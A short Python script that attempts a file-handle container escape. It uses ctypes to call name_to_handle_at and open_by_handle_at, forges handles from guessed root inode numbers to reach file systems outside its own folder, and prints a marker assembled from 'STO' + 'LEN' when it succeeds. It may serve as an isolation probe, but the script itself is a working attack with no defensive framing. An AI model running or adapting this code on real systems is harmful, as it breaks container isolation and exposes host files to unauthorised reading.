"""Opens files by handle instead of by path: a handle of its own folder leads to the whole file system."""

import ctypes
import os

AT_FDCWD = -100


class Handle(ctypes.Structure):
    _fields_ = (("size", ctypes.c_uint), ("kind", ctypes.c_int), ("bytes", ctypes.c_ubyte * 128))


libc = ctypes.CDLL(None, use_errno=True)
mount = ctypes.c_int()
for place in (b".", b"/", b"/usr", b"/tmp", b"/dev/null"):
    handle = Handle(size=128)
    told = libc.name_to_handle_at(AT_FDCWD, place, ctypes.byref(handle), ctypes.byref(mount), 0)
    folder = os.open(b"." if place == b"." else b"/usr", os.O_RDONLY)
    for inode in (None, 2, 128, 256):  # roots of common file systems
        if inode is not None:
            handle.size, handle.kind = 8, 1
            ctypes.memmove(handle.bytes, inode.to_bytes(8, "little"), 8)
        if (told == 0 or inode) and libc.open_by_handle_at(folder, ctypes.byref(handle), os.O_RDONLY) >= 0:
            print("STO" + "LEN", place, inode)
    os.close(folder)
